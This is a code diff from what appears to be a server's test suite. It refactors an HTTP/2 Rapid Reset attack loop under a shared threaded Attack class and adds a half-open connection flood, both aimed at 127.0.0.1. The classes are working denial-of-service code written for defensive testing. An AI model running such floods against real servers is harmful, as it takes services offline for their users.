@@ -48,18 +48,14 @@ def connect(port: int, source: str = "127.0.0.1", timeout: float = 5) -> socket.
     return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
 
 
-class RapidReset:
-    """One HTTP/2 connection opening streams and resetting them at once, in batches, until stopped;
-    it reads what the server sends (acking SETTINGS and PINGs, as a real attacker's library would),
-    so the server never pauses it for unread frames. Reconnects when the server closes it."""
+class Attack:
+    """A loop on a thread of its own, from the start of a `with` block to its end."""
 
-    def __init__(self, port: int, source: str = "127.0.0.1", key: str | None = None, batch: int = 50):
-        self.port, self.source, self.key, self.batch = port, source, key, batch
-        self.streams = self.connections = self.goaways = 0
+    def __init__(self) -> None:
         self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread = threading.Thread(target=self._loop, daemon=True)
 
-    def __enter__(self) -> RapidReset:
+    def __enter__(self):
         self._thread.start()
         return self
 
@@ -67,7 +63,21 @@ class RapidReset:
         self._stop.set()
         self._thread.join(10)
 
-    def _run(self) -> None:
+    def _loop(self) -> None:
+        raise NotImplementedError
+
+
+class RapidReset(Attack):
+    """One HTTP/2 connection opening streams and resetting them at once, in batches, until stopped;
+    it reads what the server sends (acking SETTINGS and PINGs, as a real attacker's library would),
+    so the server never pauses it for unread frames. Reconnects when the server closes it."""
+
+    def __init__(self, port: int, source: str = "127.0.0.1", key: str | None = None, batch: int = 50):
+        super().__init__()
+        self.port, self.source, self.key, self.batch = port, source, key, batch
+        self.streams = self.connections = self.goaways = 0
+
+    def _loop(self) -> None:
         while not self._stop.is_set():
             try:
                 self._connection()
@@ -134,18 +144,46 @@ def preface_only(port: int, n: int, source: str = "127.0.0.1") -> list[socket.so
     return socks
 
 
-def still_open(socks: list[socket.socket]) -> int:
-    """How many of `socks` the server has not closed (reading whatever it sent meanwhile)."""
-    count = 0
-    for sock in socks:
-        sock.setblocking(False)
-        try:
-            while True:
-                data = sock.recv(65536)
-                if not data:
-                    break
-        except BlockingIOError:
-            count += 1
-        except OSError:
+class HalfOpenFlood(Attack):
+    """Connections from `source` that send `half` a request and go silent, reopened as the server
+    closes or refuses them, until stopped."""
+
+    def __init__(self, port: int, half: bytes, source: str):
+        super().__init__()
+        self.port, self.half, self.source, self.opened = port, half, source, 0
+
+    def _loop(self) -> None:
+        socks: list[socket.socket] = []
+        while not self._stop.is_set():
+            try:
+                sock = connect(self.port, self.source, timeout=2)
+                sock.sendall(self.half)
+                socks.append(sock)
+                self.opened += 1
+                time.sleep(0.002)  # ~500 a second: enough to refill, without using up the source ports
+            except OSError:
+                time.sleep(0.01)
+            if len(socks) >= 64:
+                socks = [sock for sock in socks if held(sock)]
+        for sock in socks:
+            sock.close()
+
+
+def held(sock: socket.socket) -> bool:
+    """The server has not closed `sock` (whatever it sent is read and dropped); `sock` is closed
+    here when it has."""
+    sock.setblocking(False)
+    try:
+        while sock.recv(1 << 16):
             pass
-    return count
+    except BlockingIOError:
+        return True
+    except OSError:
+        pass
+    sock.close()
+    return False
+
+
+def still_open(socks: list[socket.socket]) -> int:
+    """How many of `socks` the server has not closed (closing the others)."""
+    return sum(held(sock) for sock in socks if sock.fileno() != -1)
